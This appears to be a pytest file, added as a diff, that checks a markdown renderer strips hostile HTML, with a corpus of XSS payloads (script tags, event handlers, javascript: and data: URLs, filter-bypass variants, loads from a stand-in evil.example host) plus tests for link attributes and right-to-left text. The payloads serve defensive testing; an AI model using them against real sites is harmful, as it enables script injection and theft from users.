@@ -1,0 +1,140 @@
+"""User text becomes safe HTML: a broad corpus of XSS payloads, checked on the parsed HTML."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from workspace.markdown import render_markdown
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"javascript:alert('XSS')\">",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="jav&#x09;ascript:alert(1)">click</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click](  javascript:alert(1))",
+    "![img](javascript:alert(1))",
+    "![tracker](https://evil.example/pixel.png)",
+    '<a href="https://ok.example" onclick="alert(1)">x</a>',
+    "<p onmouseover=alert(1)>hover</p>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<details open ontoggle=alert(1)>",
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<base href="javascript:alert(1)//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<template><script>alert(1)</script></template>",
+    "<video><source onerror=alert(1)></video>",
+    "<<script>script>alert(1)<</script>/script>",
+    "<scr<script>ipt>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'';!--\"<XSS>=&{()}",
+    '<a href="https://ok.example" style="color:red" target=_blank>x</a>',
+    "<!--<script>alert(1)</script>-->",
+    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+    '[x](https://ok.example "title" onclick=alert(1))',
+    '<a href="//evil.example" formaction=javascript:alert(1)>x</a>',
+]
+
+FORBIDDEN_TAGS = {
+    "script",
+    "style",
+    "svg",
+    "math",
+    "iframe",
+    "noscript",
+    "img",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "button",
+    "base",
+    "meta",
+    "link",
+    "template",
+    "video",
+    "source",
+    "body",
+    "details",
+}
+
+
+class Collector(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+
+def parse(html: str) -> list[tuple[str, dict]]:
+    collector = Collector()
+    collector.feed(html)
+    return collector.tags
+
+
+def assert_safe(html: str) -> None:
+    for tag, attrs in parse(html):
+        assert tag not in FORBIDDEN_TAGS, (tag, html)
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (name, html)
+            assert name not in {"style", "srcdoc", "formaction", "background"}, (name, html)
+            if name in {"href", "src", "action"}:
+                scheme = (value or "").strip().lower().split(":", 1)[0]
+                assert scheme in {"http", "https", "mailto"} or ":" not in (value or ""), (value, html)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payload_is_neutralised(payload):
+    """No script, no event attribute, no javascript:/data: URL survives rendering."""
+    assert_safe(render_markdown(payload))
+    assert_safe(render_markdown(f"Some text\n\n{payload}\n\n* item {payload}"))
+
+
+def test_links_get_rel_and_keep_safe_urls():
+    """A normal link keeps its address and gets rel="nofollow noopener noreferrer"."""
+    html = render_markdown("See [the report](https://example.org/report) or [mail](mailto:a@example.org).")
+    links = [attrs for tag, attrs in parse(html) if tag == "a"]
+    assert [link["href"] for link in links] == ["https://example.org/report", "mailto:a@example.org"]
+    assert {link["rel"] for link in links} == {"nofollow noopener noreferrer"}
+
+
+def test_every_paragraph_takes_its_own_direction():
+    """Each paragraph and list item gets dir="auto" so Dari reads right to left beside Russian."""
+    html = render_markdown("ما یک اندیشکده هستیم\n\nМы — аналитический центр\n\n- یک\n- два")
+    blocks = [(tag, attrs.get("dir")) for tag, attrs in parse(html) if tag in {"p", "li"}]
+    assert blocks == [("p", "auto"), ("p", "auto"), ("li", "auto"), ("li", "auto")]
+
+
+def test_markdown_formatting_survives():
+    """Emphasis, lists, quotes and code render as expected."""
+    html = render_markdown("**bold** _it_\n\n> quote\n\n1. one\n2. two\n\n`code`")
+    tags = [tag for tag, _attrs in parse(html)]
+    for tag in ["strong", "em", "blockquote", "ol", "li", "code"]:
+        assert tag in tags
+
+
+def test_text_with_angle_brackets_is_escaped_not_dropped():
+    """A sentence like "a < b" is kept as text."""
+    assert "a &lt; b" in render_markdown("a < b")
